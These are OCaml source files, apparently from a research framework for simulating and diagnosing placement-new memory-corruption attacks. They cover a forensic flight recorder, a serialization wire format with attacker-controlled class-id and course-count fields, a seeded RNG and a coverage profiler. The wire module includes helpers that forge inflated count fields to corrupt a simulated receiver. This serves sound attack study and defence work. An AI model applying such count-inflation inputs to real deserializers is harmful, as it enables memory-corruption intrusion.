  val page_size : int

  val create : int -> t
  (** [create len] covers [len] bytes, initially fully dirty (nothing
      has been synced yet). @raise Invalid_argument when [len < 0]. *)

  val mark : t -> int -> int -> unit
  (** [mark t off len]: mark the pages covering bytes
      [off, off+len) as touched. No-op when [len <= 0]. *)

  val mark_all : t -> unit
  val clear : t -> unit

  val any : t -> bool
  (** [false] guarantees no page is marked — the cheap
      "nothing to rewind" test. *)

  val iter_runs : t -> (int -> int -> unit) -> unit
  (** Apply [f off len] to each maximal run of dirty pages, clamped to
      the covered length. *)
end
