(** The attack flight recorder: a bounded, always-on black box.

    Two stores cooperate:

    - a {e process-global ring} of recent happenings any layer may note
      (wire frames in and out, campaign milestones) — cheap enough to
      leave armed in production, bounded so a soak cannot grow it;
    - a {e per-run session} that taps the sanitizer's violation and
      shadow-transition hooks and the interpreter's statement ticks.
      The first violation is latched in its own slot, outside any ring,
      so no volume of later activity can overwrite the one fact a
      post-mortem needs most: which statement wrote which byte first.

    {!dump} freezes both into a self-contained forensic bundle — a
    JSONL timeline, the Chrome trace, a shadow-map excerpt around the
    first corrupting access, the Vmem write-trace tail with taint
    provenance, and a verdict summary — and {!report} reconstructs the
    attack narrative from a bundle directory alone. *)

module Jsonx = Pna_telemetry.Jsonx
module Trace = Pna_telemetry.Trace
module San = Pna_sanitizer.Sanitizer
module Machine = Pna_machine.Machine
module Event = Pna_machine.Event
module Vmem = Pna_vmem.Vmem
module Fault = Pna_vmem.Fault

type entry = {
  e_seq : int;
  e_ts_us : float;  (** microseconds on the {!Trace} epoch *)
  e_step : int;  (** interpreter step at note time; -1 outside a run *)
  e_kind : string;
  e_data : (string * Jsonx.t) list;
}

(* -- the global ring ------------------------------------------------- *)

let default_capacity = 1024
let capacity = ref default_capacity

type ring = {
  r_mutex : Mutex.t;
  mutable r_slots : entry option array;
  mutable r_next : int;
  mutable r_dropped : int;
}

let ring = {
  r_mutex = Mutex.create ();
  r_slots = Array.make default_capacity None;
  r_next = 0;
  r_dropped = 0;
}

let locked f =
  Mutex.lock ring.r_mutex;
  Fun.protect ~finally:(fun () -> Mutex.unlock ring.r_mutex) f

let note ?(step = -1) ~kind data =
  locked (fun () ->
      if Array.length ring.r_slots <> !capacity then begin
        ring.r_slots <- Array.make !capacity None;
        ring.r_next <- 0
      end;
      let slot = ring.r_next mod Array.length ring.r_slots in
      if ring.r_slots.(slot) <> None then
        ring.r_dropped <- ring.r_dropped + 1;
      ring.r_slots.(slot) <-
        Some
          {
            e_seq = ring.r_next;
            e_ts_us = Trace.now_us ();
            e_step = step;
            e_kind = kind;
            e_data = data;
          };
      ring.r_next <- ring.r_next + 1)

let entries () =
  locked (fun () ->
      Array.fold_left
        (fun acc s -> match s with Some e -> e :: acc | None -> acc)
        [] ring.r_slots)
  |> List.sort (fun a b -> compare a.e_seq b.e_seq)

let dropped () = locked (fun () -> ring.r_dropped)

let reset () =
  locked (fun () ->
      Array.fill ring.r_slots 0 (Array.length ring.r_slots) None;
      ring.r_next <- 0;
      ring.r_dropped <- 0)

(* -- per-run sessions ------------------------------------------------ *)

(* What the latch keeps about the first corrupting access: the full
   violation record plus the interpreter step it happened on. *)
type first = { fv_violation : San.violation; fv_step : int }

(* Session-local event tail — transitions and violations with step
   numbers, bounded like the global ring but private to one run so
   concurrent workers never interleave. *)
let session_capacity = 2048

type session = {
  fs_scenario : string;
  fs_config : string;
  mutable fs_step : int;
  mutable fs_first : first option;
  mutable fs_violations : int;
  mutable fs_transitions : int;
  fs_slots : entry option array;
  mutable fs_next : int;
  mutable fs_dropped : int;
}

let start ~scenario ~config =
  {
    fs_scenario = scenario;
    fs_config = config;
    fs_step = 0;
    fs_first = None;
    fs_violations = 0;
    fs_transitions = 0;
    fs_slots = Array.make session_capacity None;
    fs_next = 0;
    fs_dropped = 0;
  }

let tick fs = fs.fs_step <- fs.fs_step + 1
let step fs = fs.fs_step
let first_violation fs = fs.fs_first

let session_note fs ~kind data =
  let slot = fs.fs_next mod Array.length fs.fs_slots in
  if fs.fs_slots.(slot) <> None then fs.fs_dropped <- fs.fs_dropped + 1;
  fs.fs_slots.(slot) <-
    Some
      {
        e_seq = fs.fs_next;
        e_ts_us = Trace.now_us ();
        e_step = fs.fs_step;
        e_kind = kind;
        e_data = data;
      };
  fs.fs_next <- fs.fs_next + 1

let access_name = function
  | Fault.Read -> "read"
  | Fault.Write -> "write"
  | Fault.Execute -> "exec"

let violation_fields (v : San.violation) =
  [
    ("kind", Jsonx.Str (San.kind_name v.San.v_kind));
    ("addr", Jsonx.Int v.San.v_addr);
    ("len", Jsonx.Int v.San.v_len);
    ("access", Jsonx.Str (access_name v.San.v_access));
    ("taint", Jsonx.Bool v.San.v_taint);
    ("state", Jsonx.Str (San.state_name v.San.v_state));
    ("site", Jsonx.Str v.San.v_site);
    ("seq", Jsonx.Int v.San.v_seq);
  ]

(* Wire the session into a sanitizer: every new violation record and
   every shadow transition lands in the session tail; the first
   violation also latches. Replaces any previous hooks on [san]. *)
let attach fs (san : San.t) =
  San.set_on_violation san
    (Some
       (fun v ->
         fs.fs_violations <- fs.fs_violations + 1;
         if fs.fs_first = None then
           fs.fs_first <- Some { fv_violation = v; fv_step = fs.fs_step };
         session_note fs ~kind:"violation" (violation_fields v)));
  San.set_on_transition san
    (Some
       (fun ~op ~addr ~len st ->
         fs.fs_transitions <- fs.fs_transitions + 1;
         session_note fs ~kind:"transition"
           [
             ("op", Jsonx.Str op);
             ("addr", Jsonx.Int addr);
             ("len", Jsonx.Int len);
             ("state", Jsonx.Str (San.state_name st));
           ]))

let detach (san : San.t) =
  San.set_on_violation san None;
  San.set_on_transition san None

let session_entries fs =
  Array.fold_left
    (fun acc s -> match s with Some e -> e :: acc | None -> acc)
    [] fs.fs_slots
  |> List.sort (fun a b -> compare a.e_seq b.e_seq)

(* -- forensic bundle ------------------------------------------------- *)

(* Which named region a simulated address falls in — the "what did the
   write corrupt" half of the narrative, alongside the shadow state. *)
let region_of_addr addr =
  let within base size = addr >= base && addr < base + size in
  if within Machine.text_base 0x8000 then "text"
  else if within Machine.rodata_base 0x10000 then "rodata (vtables)"
  else if within Machine.data_base 0x10000 then "data"
  else if within Machine.bss_base 0x20000 then "bss"
  else if addr >= Machine.heap_base && addr < Machine.stack_base then "heap"
  else if addr >= Machine.stack_base && addr <= Machine.stack_top then "stack"
  else "unmapped"

let entry_json e =
  Jsonx.Obj
    ([
       ("seq", Jsonx.Int e.e_seq);
       ("ts_us", Jsonx.Float e.e_ts_us);
       ("step", Jsonx.Int e.e_step);
       ("kind", Jsonx.Str e.e_kind);
     ]
    @ e.e_data)

let write_file path content =
  let oc = open_out_bin path in
  Fun.protect ~finally:(fun () -> close_out oc) (fun () ->
      output_string oc content)

let sanitize_name s =
  String.map
    (fun c ->
      match c with
      | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '-' | '_' | '.' -> c
      | _ -> '_')
    s

(* The write-trace records that touched the corrupted range — the taint
   provenance of the first corrupting access. *)
let provenance writes (v : San.violation) =
  List.filter
    (fun (w : Vmem.write_record) ->
      w.Vmem.w_addr < v.San.v_addr + v.San.v_len
      && w.Vmem.w_addr + w.Vmem.w_len > v.San.v_addr)
    writes

let shadow_excerpt san (v : San.violation) =
  let b = Buffer.create 512 in
  let lo = v.San.v_addr - 32 and hi = v.San.v_addr + v.San.v_len + 32 in
  let addr = ref lo in
  while !addr < hi do
    let st = San.state_at san !addr in
    (* coalesce runs of the same state into one line *)
    let run_start = !addr in
    while !addr < hi && San.state_at san !addr = st do
      incr addr
    done;
    Buffer.add_string b
      (Fmt.str "0x%08x..0x%08x  %s%s\n" run_start (!addr - 1)
         (San.state_name st)
         (if v.San.v_addr >= run_start && v.San.v_addr < !addr then
            "   <-- first corrupting access"
          else ""))
  done;
  Buffer.contents b

(* Dump a self-contained bundle under [dir]/<scenario>_<config>/ and
   return the bundle directory. [machine] contributes the event log and
   the Vmem write-trace tail; [san] the shadow excerpt. *)
let dump ~dir ?machine ?san ~status fs =
  let bundle =
    Filename.concat dir
      (sanitize_name (fs.fs_scenario ^ "_" ^ fs.fs_config))
  in
  (try Unix.mkdir dir 0o755 with Unix.Unix_error _ -> ());
  (try Unix.mkdir bundle 0o755 with Unix.Unix_error _ -> ());
  let writes =
    match machine with Some m -> Vmem.trace (Machine.mem m) | None -> []
  in
  (* timeline: the session tail then the global ring, one object per
     line, already in causal order within each stream *)
  let buf = Buffer.create 4096 in
  List.iter
    (fun e ->
      Buffer.add_string buf (Jsonx.to_string (entry_json e));
      Buffer.add_char buf '\n')
    (session_entries fs @ entries ());
  write_file (Filename.concat bundle "timeline.jsonl") (Buffer.contents buf);
  (* machine events *)
  (match machine with
  | Some m ->
    let buf = Buffer.create 1024 in
    List.iter
      (fun ev ->
        Buffer.add_string buf (Jsonx.to_string (Event.to_json ev));
        Buffer.add_char buf '\n')
      (Machine.events m);
    write_file (Filename.concat bundle "events.jsonl") (Buffer.contents buf)
  | None -> ());
  (* vmem write-trace tail *)
  (match writes with
  | [] -> ()
  | ws ->
    let buf = Buffer.create 4096 in
    List.iter
      (fun (w : Vmem.write_record) ->
        Buffer.add_string buf
          (Jsonx.to_string
             (Jsonx.Obj
                [
                  ("addr", Jsonx.Int w.Vmem.w_addr);
                  ("len", Jsonx.Int w.Vmem.w_len);
                  ("tag", Jsonx.Str w.Vmem.w_tag);
                ]));
        Buffer.add_char buf '\n')
      ws;
    write_file (Filename.concat bundle "writes.jsonl") (Buffer.contents buf));
  (* chrome trace of whatever the ring holds right now *)
  write_file
    (Filename.concat bundle "trace.json")
    (Jsonx.to_string (Trace.chrome_json ()));
  (* shadow excerpt around the first corrupting access *)
  (match (san, fs.fs_first) with
  | Some san, Some f ->
    write_file
      (Filename.concat bundle "shadow.txt")
      (shadow_excerpt san f.fv_violation)
  | _ -> ());
  (* the verdict summary: everything a regression diff needs on one
     parseable page *)
  let first_json =
    match fs.fs_first with
    | None -> Jsonx.Null
    | Some f ->
      Jsonx.Obj
        (violation_fields f.fv_violation
        @ [
            ("step", Jsonx.Int f.fv_step);
            ( "region",
              Jsonx.Str (region_of_addr f.fv_violation.San.v_addr) );
            ( "steps_to_verdict",
              Jsonx.Int (max 0 (fs.fs_step - f.fv_step)) );
            ( "provenance",
              Jsonx.List
                (List.map
                   (fun (w : Vmem.write_record) ->
                     Jsonx.Obj
                       [
                         ("addr", Jsonx.Int w.Vmem.w_addr);
                         ("len", Jsonx.Int w.Vmem.w_len);
                         ("tag", Jsonx.Str w.Vmem.w_tag);
                       ])
                   (provenance writes f.fv_violation)) );
          ])
  in
  write_file
    (Filename.concat bundle "verdict.json")
    (Jsonx.to_string
       (Jsonx.Obj
          [
            ("scenario", Jsonx.Str fs.fs_scenario);
            ("config", Jsonx.Str fs.fs_config);
            ("status", Jsonx.Str status);
            ("steps", Jsonx.Int fs.fs_step);
            ("violations", Jsonx.Int fs.fs_violations);
            ("transitions", Jsonx.Int fs.fs_transitions);
            ("timeline_dropped", Jsonx.Int fs.fs_dropped);
            ("first_violation", first_json);
          ]));
  bundle

(* -- reading a bundle back ------------------------------------------- *)

let read_file path =
  let ic = open_in_bin path in
  Fun.protect ~finally:(fun () -> close_in ic) (fun () ->
      really_input_string ic (in_channel_length ic))

let load_verdict bundle =
  match Jsonx.of_string (read_file (Filename.concat bundle "verdict.json")) with
  | Ok j -> Ok j
  | Error e -> Error (Fmt.str "verdict.json: %s" e)
  | exception Sys_error e -> Error e

(* Reconstruct the attack narrative from the bundle directory alone —
   the [pna forensics] output. *)
let report ppf bundle =
  match load_verdict bundle with
  | Error e -> Fmt.pf ppf "cannot read bundle %s: %s@." bundle e
  | Ok v ->
    let str k = Option.bind (Jsonx.member k v) Jsonx.to_str in
    let int_ k = Option.bind (Jsonx.member k v) Jsonx.to_int in
    let get d = Option.value ~default:d in
    Fmt.pf ppf "@[<v>== forensic timeline: %s under %s ==@,"
      (get "?" (str "scenario"))
      (get "?" (str "config"));
    Fmt.pf ppf "status: %s after %d steps; %d violation(s), %d shadow transition(s)@,"
      (get "?" (str "status"))
      (get 0 (int_ "steps"))
      (get 0 (int_ "violations"))
      (get 0 (int_ "transitions"));
    (match Jsonx.member "first_violation" v with
    | Some (Jsonx.Obj _ as f) ->
      let fstr k = Option.bind (Jsonx.member k f) Jsonx.to_str in
      let fint k = Option.bind (Jsonx.member k f) Jsonx.to_int in
      Fmt.pf ppf
        "first corrupting access: step %d — %s %s of 0x%08x+%d (%s, %s)@,"
        (get 0 (fint "step"))
        (get "?" (fstr "kind"))
        (get "?" (fstr "access"))
        (get 0 (fint "addr"))
        (get 1 (fint "len"))
        (get "?" (fstr "state"))
        (get "?" (fstr "region"));
      Fmt.pf ppf "  at %s@," (get "<unknown site>" (fstr "site"));
      Fmt.pf ppf "  verdict fired %d step(s) later@,"
        (get 0 (fint "steps_to_verdict"));
      (match Jsonx.member "provenance" f with
      | Some (Jsonx.List (_ :: _ as ws)) ->
        Fmt.pf ppf "  corrupting bytes written by:@,";
        List.iter
          (fun w ->
            let wint k = Option.bind (Jsonx.member k w) Jsonx.to_int in
            let wstr k = Option.bind (Jsonx.member k w) Jsonx.to_str in
            Fmt.pf ppf "    0x%08x+%d  %s@," (get 0 (wint "addr"))
              (get 0 (wint "len"))
              (get "?" (wstr "tag")))
          ws
      | _ -> ())
    | _ -> Fmt.pf ppf "no violation recorded@,");
    (* replay the timeline tail: the last events before the verdict *)
    (match
       String.split_on_char '\n'
         (read_file (Filename.concat bundle "timeline.jsonl"))
     with
    | lines ->
      let parsed =
        List.filter_map
          (fun l ->
            if String.trim l = "" then None
            else match Jsonx.of_string l with Ok j -> Some j | Error _ -> None)
          lines
      in
      let n = List.length parsed in
      let tail =
        if n > 12 then (
          Fmt.pf ppf "timeline: %d entries; last 12:@," n;
          List.filteri (fun i _ -> i >= n - 12) parsed)
        else (
          Fmt.pf ppf "timeline: %d entries:@," n;
          parsed)
      in
      List.iter
        (fun e ->
          let estr k = Option.bind (Jsonx.member k e) Jsonx.to_str in
          let eint k = Option.bind (Jsonx.member k e) Jsonx.to_int in
          Fmt.pf ppf "  [step %5d] %-12s %s@,"
            (get (-1) (eint "step"))
            (get "?" (estr "kind"))
            (String.concat " "
               (List.filter_map
                  (fun k ->
                    match Jsonx.member k e with
                    | Some (Jsonx.Str s) -> Some (k ^ "=" ^ s)
                    | Some (Jsonx.Int i) when k = "addr" ->
                      Some (Fmt.str "addr=0x%08x" i)
                    | Some (Jsonx.Int i) -> Some (Fmt.str "%s=%d" k i)
                    | _ -> None)
                  [ "op"; "kind"; "addr"; "len"; "state"; "site"; "dir"; "summary" ])))
        tail
    | exception Sys_error _ -> ());
    Fmt.pf ppf "@]"
