(** The object wire format of the enrollment "web service" — the §3.2
    scenario: objects serialized by a (possibly malicious) remote peer and
    re-materialized by the receiver with placement new.

    Little-endian layout:

    {v
      +0   class id      u32   (1 = NetStudent, 2 = NetGradStudent)
      +4   gpa           f64
      +12  year          u32
      +16  semester      u32
      --- NetGradStudent only ---
      +20  ssn[0..2]     3 x u32
      +32  course count  u32
      +36  courses       count x u32
    v}

    The receiver trusts both the class id and the course count — the two
    fields this module lets an attacker inflate. *)

let student_id = 1
let grad_student_id = 2

(* field offsets, shared with the MiniC++ deserializer in {!Victim} *)
let off_gpa = 4
let off_year = 12
let off_semester = 16
let off_ssn = 20
let off_course_count = 32
let off_courses = 36

(* The explicit mask is the contract: a value outside [0, 2^32) encodes
   as its two's-complement low 32 bits, the same view [Vmem.of_signed32]
   gives — not whatever [lsr] happens to shift in on a 63-bit int. Count
   fields that must round-trip exactly are range-checked by [encode]
   before they reach here. *)
let le32 v =
  let v = v land 0xffffffff in
  String.init 4 (fun k -> Char.chr ((v lsr (8 * k)) land 0xff))

let le64 v =
  String.init 8 (fun k ->
      Char.chr (Int64.to_int (Int64.shift_right_logical v (8 * k)) land 0xff))

let f64 v = le64 (Int64.bits_of_float v)

type t = {
  class_id : int;
  gpa : float;
  year : int;
  semester : int;
  ssn : int array;  (** used when class_id = 2; length 3 *)
  courses : int list;  (** the *encoded* count precedes them *)
  claimed_courses : int option;
      (** override the count field — the attacker's lie *)
}

let student ?(gpa = 3.0) ?(year = 2010) ?(semester = 1) () =
  {
    class_id = student_id;
    gpa;
    year;
    semester;
    ssn = [| 0; 0; 0 |];
    courses = [];
    claimed_courses = None;
  }

let grad_student ?(gpa = 3.5) ?(year = 2009) ?(semester = 2)
    ?(ssn = [| 123; 456; 789 |]) ?(courses = []) ?claimed_courses () =
  {
    class_id = grad_student_id;
    gpa;
    year;
    semester;
    ssn;
    courses;
    claimed_courses;
  }

(** Serialize to raw bytes (may contain NULs; deliver with the [recv]
    builtin). *)
let encode t =
  let b = Buffer.create 64 in
  Buffer.add_string b (le32 t.class_id);
  Buffer.add_string b (f64 t.gpa);
  Buffer.add_string b (le32 t.year);
  Buffer.add_string b (le32 t.semester);
  if t.class_id = grad_student_id then begin
    Array.iter (fun s -> Buffer.add_string b (le32 s)) t.ssn;
    let count = Option.value t.claimed_courses ~default:(List.length t.courses) in
    (* The count is the one field the receiver multiplies by: a value
       the u32 wire word cannot represent would be silently aliased by
       the mask in [le32], turning the attacker's (or a buggy caller's)
       number into a different lie than requested. Refuse at encode
       time instead. *)
    if count < 0 || count > 0xffffffff then
      Fmt.invalid_arg "Wire.encode: course count %d outside u32 range" count;
    Buffer.add_string b (le32 count);
    List.iter (fun c -> Buffer.add_string b (le32 c)) t.courses
  end;
  Buffer.contents b

let size t = String.length (encode t)

(* -- decoding (the honest receiver's view, used by tests and tools) ------ *)

let rd32 s off =
  Char.code s.[off]
  lor (Char.code s.[off + 1] lsl 8)
  lor (Char.code s.[off + 2] lsl 16)
  lor (Char.code s.[off + 3] lsl 24)

let rd64 s off =
  let b = ref 0L in
  for k = 7 downto 0 do
    b := Int64.logor (Int64.shift_left !b 8) (Int64.of_int (Char.code s.[off + k]))
  done;
  !b

let rdf64 s off = Int64.float_of_bits (rd64 s off)

(** Parse a datagram back into its fields. Unlike the vulnerable MiniC++
    receiver this never reads out of bounds: short, truncated or
    count-inflated datagrams come back as [Error]. The encoded count is
    preserved: when it exceeds the course words actually present the lie is
    reported via [claimed_courses]. *)
let decode s : (t, string) result =
  let len = String.length s in
  let need n what = if len < n then Error (Fmt.str "short datagram: %s needs %d bytes, got %d" what n len) else Ok () in
  let ( let* ) = Result.bind in
  let* () = need 4 "class id" in
  let class_id = rd32 s 0 in
  if class_id <> student_id && class_id <> grad_student_id then
    Error (Fmt.str "unknown class id %d" class_id)
  else
    let* () = need off_ssn "common fields" in
    let gpa = Int64.float_of_bits (rd64 s off_gpa) in
    let year = rd32 s off_year in
    let semester = rd32 s off_semester in
    if class_id = student_id then
      if len > off_ssn then Error "trailing bytes after NetStudent fields"
      else
        Ok
          {
            class_id;
            gpa;
            year;
            semester;
            ssn = [| 0; 0; 0 |];
            courses = [];
            claimed_courses = None;
          }
    else
      let* () = need off_courses "grad fields" in
      let ssn = Array.init 3 (fun k -> rd32 s (off_ssn + (4 * k))) in
      let count = rd32 s off_course_count in
      let avail = (len - off_courses) / 4 in
      if len <> off_courses + (4 * avail) then
        Error "course list is not a whole number of words"
      else if count < 0 || count > avail then
        (* the attacker's lie: keep what is really there, remember the claim *)
        Ok
          {
            class_id;
            gpa;
            year;
            semester;
            ssn;
            courses = List.init avail (fun j -> rd32 s (off_courses + (4 * j)));
            claimed_courses = Some count;
          }
      else if avail > count then Error "trailing bytes after course list"
      else
        Ok
          {
            class_id;
            gpa;
            year;
            semester;
            ssn;
            courses = List.init count (fun j -> rd32 s (off_courses + (4 * j)));
            claimed_courses = None;
          }

(* -- datagram perturbation (chaos layer + property tests) ---------------- *)

let truncate_datagram ~keep s = String.sub s 0 (max 0 (min keep (String.length s)))

let flip_byte ~pos ~mask s =
  if String.length s = 0 then s
  else
    let pos = abs pos mod String.length s in
    String.mapi
      (fun i c -> if i = pos then Char.chr (Char.code c lxor (mask land 0xff)) else c)
      s

let inflate_count ~claimed s =
  if String.length s < off_course_count + 4 then s
  else
    String.sub s 0 off_course_count
    ^ le32 claimed
    ^ String.sub s (off_course_count + 4)
        (String.length s - off_course_count - 4)

(* -- delivery hook: a chaotic network between encoder and receiver ------- *)

let tamper_hook : (string -> string) option ref = ref None
let set_tamper f = tamper_hook := f

let deliver t =
  let s = encode t in
  match !tamper_hook with Some f -> f s | None -> s

let pp ppf t =
  Fmt.pf ppf "wire{id=%d gpa=%g year=%d sem=%d ssn=[%a] courses=%d%a}"
    t.class_id t.gpa t.year t.semester
    Fmt.(array ~sep:comma int)
    t.ssn
    (List.length t.courses)
    Fmt.(option (fun ppf c -> Fmt.pf ppf " claimed=%d" c))
    t.claimed_courses
