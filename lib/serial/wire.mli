(** The object wire format of the enrollment service (§3.2): little-endian
    class id + fields; NetGradStudent datagrams carry SSN words and a
    count-prefixed course list. The receiver trusts the class id and the
    count — the two fields this module lets an attacker inflate. *)

val student_id : int
val grad_student_id : int

(** Field offsets within a datagram, shared with the MiniC++ deserializer. *)

val off_gpa : int
val off_year : int
val off_semester : int
val off_ssn : int
val off_course_count : int
val off_courses : int

type t = {
  class_id : int;
  gpa : float;
  year : int;
  semester : int;
  ssn : int array;
  courses : int list;
  claimed_courses : int option;  (** override the count field — the lie *)
}

val student : ?gpa:float -> ?year:int -> ?semester:int -> unit -> t

val grad_student :
  ?gpa:float ->
  ?year:int ->
  ?semester:int ->
  ?ssn:int array ->
  ?courses:int list ->
  ?claimed_courses:int ->
  unit ->
  t

val encode : t -> string
(** Raw bytes (may contain NULs; deliver via the [recv] builtin).
    @raise Invalid_argument when the course count (claimed or real) is
    outside the u32 range the wire word can carry. *)

val decode : string -> (t, string) result
(** Parse a datagram defensively: short, truncated or trailing-garbage
    inputs are [Error]; a count larger than the course words present
    round-trips through [claimed_courses]. *)

val size : t -> int

(** Datagram perturbations used by the chaos layer and property tests. *)

val truncate_datagram : keep:int -> string -> string
(** Keep only the first [keep] bytes (clamped to [0, length]). *)

val flip_byte : pos:int -> mask:int -> string -> string
(** XOR the byte at [pos mod length] with [mask]; identity on [""]. *)

val inflate_count : claimed:int -> string -> string
(** Overwrite the course-count word in place when the datagram is long
    enough to carry one; identity otherwise. *)

val set_tamper : (string -> string) option -> unit
(** Install (or clear) the delivery-tampering hook applied by {!deliver} —
    the chaos layer's model of a faulty network between peers. *)

val deliver : t -> string
(** [encode] then apply the tamper hook, if any. *)

val pp : Format.formatter -> t -> unit

(** Little-endian encoding helpers. [le32] encodes the two's-complement
    low 32 bits of its argument (explicitly masked); [rd32]/[rd64] are
    the matching decoders — [rd32] returns the unsigned view in
    [0, 0xffff_ffff]. *)

val le32 : int -> string
val le64 : int64 -> string
val f64 : float -> string
val rd32 : string -> int -> int
val rd64 : string -> int -> int64
val rdf64 : string -> int -> float
