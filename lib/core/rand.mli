(** Shared seeded SplitMix64 RNG — the one deterministic randomness
    primitive for chaos plans, client backoff jitter, load mixes and the
    scenario generator. Streams depend only on the seed, never on the
    OCaml stdlib generator, and [int] is exact-uniform (rejection
    sampling, no modulo bias). *)

type t

val create : int -> t
(** A fresh stream; equal seeds give byte-identical streams. *)

val copy : t -> t

val next : t -> int64
(** The raw 64-bit SplitMix64 output. *)

val fork : t -> t
(** An independent child stream seeded from this one (advances it). *)

val int : t -> int -> int
(** Uniform on [[0, n)]. @raise Invalid_argument when [n <= 0]. *)

val range : t -> lo:int -> hi:int -> int
(** Uniform on [[lo, hi]] inclusive. @raise Invalid_argument when [hi < lo]. *)

val bool : t -> bool

val float : t -> float
(** Uniform on [[0, 1)], 53 bits. *)

val pick : t -> 'a array -> 'a
val pick_list : t -> 'a list -> 'a
