(** The shared seeded RNG: SplitMix64 (Steele, Lea & Flood 2014).

    One tested primitive instead of a per-module zoo of [Random.State]
    instances with hand-picked magic arrays. Streams are fully determined
    by the integer seed and independent of the OCaml stdlib's generator,
    so seeded artifacts (chaos plans, load mixes, generated scenarios)
    are reproducible across compiler versions.

    [int] is exact-uniform: rejection sampling over a 62-bit draw, never
    a biased modulo — the difference matters when a corpus size is not a
    power of two and a gate replays "the same" stream elsewhere. *)

type t = { mutable state : int64 }

let gamma = 0x9E3779B97F4A7C15L

let create seed = { state = Int64.of_int seed }

let copy t = { state = t.state }

(* the reference mix: z = (state += gamma); twice xor-shift-multiply *)
let next t =
  t.state <- Int64.add t.state gamma;
  let z = t.state in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30)) 0xBF58476D1CE4E5B9L in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27)) 0x94D049BB133111EBL in
  Int64.logxor z (Int64.shift_right_logical z 31)

let fork t = { state = next t }

let bits62 t = Int64.to_int (Int64.shift_right_logical (next t) 2)

let int t n =
  if n <= 0 then invalid_arg "Rand.int: bound must be positive";
  if n land (n - 1) = 0 then
    (* power of two: low bits of the mixed word are already uniform *)
    Int64.to_int (Int64.logand (next t) (Int64.of_int (n - 1)))
  else begin
    (* rejection sampling: [bits] is uniform on [0, 2^62); accept unless
       it falls in the final partial block of size [2^62 mod n] *)
    let rec go () =
      let bits = bits62 t in
      let v = bits mod n in
      if bits - v > max_int - (n - 1) then go () else v
    in
    go ()
  end

let range t ~lo ~hi =
  if hi < lo then invalid_arg "Rand.range: hi < lo";
  lo + int t (hi - lo + 1)

let bool t = Int64.logand (next t) 1L = 1L

let float t =
  (* 53 uniform bits into [0, 1) *)
  Int64.to_float (Int64.shift_right_logical (next t) 11) *. 0x1.p-53

let pick t arr =
  if Array.length arr = 0 then invalid_arg "Rand.pick: empty array";
  arr.(int t (Array.length arr))

let pick_list t = function
  | [] -> invalid_arg "Rand.pick_list: empty list"
  | l -> List.nth l (int t (List.length l))
