(** Statement-level execution profiling over the interpreter's [on_stmt]
    hook: which functions ran, how many statements of each kind, how much
    of the program text was exercised. Used by `pna_cli trace` and handy
    when debugging why an attack input didn't reach its placement. *)

module Ast = Pna_minicpp.Ast

type t = {
  per_func : (string, int) Hashtbl.t;  (** executed statements per function *)
  per_kind : (string, int) Hashtbl.t;
  mutable total : int;
}

let create () =
  { per_func = Hashtbl.create 8; per_kind = Hashtbl.create 8; total = 0 }

let bump tbl key =
  Hashtbl.replace tbl key (1 + Option.value (Hashtbl.find_opt tbl key) ~default:0)

(** The [on_stmt] hook feeding this collector. *)
let hook t func stmt =
  t.total <- t.total + 1;
  bump t.per_func func;
  bump t.per_kind (Ast.stmt_kind stmt)

let collector () =
  let t = create () in
  (t, hook t)

(* static statement count of a function body, for coverage ratios *)
let static_stmts body =
  Ast.fold_stmts (fun acc _ -> acc + 1) (fun acc _ -> acc) 0 body

type func_row = {
  cf_name : string;
  cf_executed : int;  (** dynamic count: statements run, with repeats *)
  cf_static : int;  (** statements in the body *)
  cf_entered : bool;
}

(** Per-function report against the program's static shape. *)
let report t (prog : Ast.program) =
  List.map
    (fun fn ->
      let executed =
        Option.value (Hashtbl.find_opt t.per_func fn.Ast.fn_name) ~default:0
      in
      {
        cf_name = fn.Ast.fn_name;
        cf_executed = executed;
        cf_static = static_stmts fn.Ast.fn_body;
        cf_entered = executed > 0;
      })
    prog.Ast.p_funcs

let functions_entered t = Hashtbl.length t.per_func

(* -- per-statement bitmap --------------------------------------------- *)

(* The generator's coverage feedback wants statement *sites*, not kind
   totals: index every statement of the program (in [fold_program]
   order) and count hits per site. Sites are matched by physical
   identity — the interpreter hands back the very stmt values the AST
   holds, and structural equality would merge distinct-but-identical
   statements into one site. *)

type bitmap = {
  bm_sites : (string * Ast.stmt) array;  (** (function, stmt), program order *)
  bm_hits : int array;
}

let bitmap (prog : Ast.program) =
  let sites =
    List.concat_map
      (fun fn ->
        List.rev
          (Ast.fold_stmts
             (fun acc s -> (fn.Ast.fn_name, s) :: acc)
             (fun acc _ -> acc)
             [] fn.Ast.fn_body))
      prog.Ast.p_funcs
  in
  let bm =
    { bm_sites = Array.of_list sites; bm_hits = Array.make (List.length sites) 0 }
  in
  let hook fname stmt =
    (* linear scan over the site table: generated programs hold tens of
       statements, and physical equality is one word compare *)
    let n = Array.length bm.bm_sites in
    let rec find i =
      if i >= n then ()
      else
        let fn, s = bm.bm_sites.(i) in
        if s == stmt && fn = fname then
          bm.bm_hits.(i) <- bm.bm_hits.(i) + 1
        else find (i + 1)
    in
    find 0
  in
  (bm, hook)

let sites bm = Array.length bm.bm_hits
let hit_count bm idx = bm.bm_hits.(idx)
let site_label bm idx =
  let fn, s = bm.bm_sites.(idx) in
  Fmt.str "%s#%d:%s" fn idx (Ast.stmt_kind s)

let hit_sites bm =
  let acc = ref [] in
  for i = Array.length bm.bm_hits - 1 downto 0 do
    if bm.bm_hits.(i) > 0 then acc := i :: !acc
  done;
  !acc

let hits bm = List.length (hit_sites bm)
let reset bm = Array.fill bm.bm_hits 0 (Array.length bm.bm_hits) 0

let merge ~into bm =
  if Array.length into.bm_hits <> Array.length bm.bm_hits then
    invalid_arg "Coverage.merge: bitmaps cover different programs";
  let fresh = ref 0 in
  Array.iteri
    (fun i c ->
      if c > 0 then begin
        if into.bm_hits.(i) = 0 then incr fresh;
        into.bm_hits.(i) <- into.bm_hits.(i) + c
      end)
    bm.bm_hits;
  !fresh

let pp ppf (t, prog) =
  Fmt.pf ppf "@[<v>%d statements executed across %d function(s)@," t.total
    (functions_entered t);
  List.iter
    (fun r ->
      Fmt.pf ppf "  %-28s %6d executed (%d in body)%s@," r.cf_name r.cf_executed
        r.cf_static
        (if r.cf_entered then "" else "  [never entered]"))
    (report t prog);
  Fmt.pf ppf "by kind:@,";
  Hashtbl.fold (fun k v acc -> (k, v) :: acc) t.per_kind []
  |> List.sort (fun (_, a) (_, b) -> compare b a)
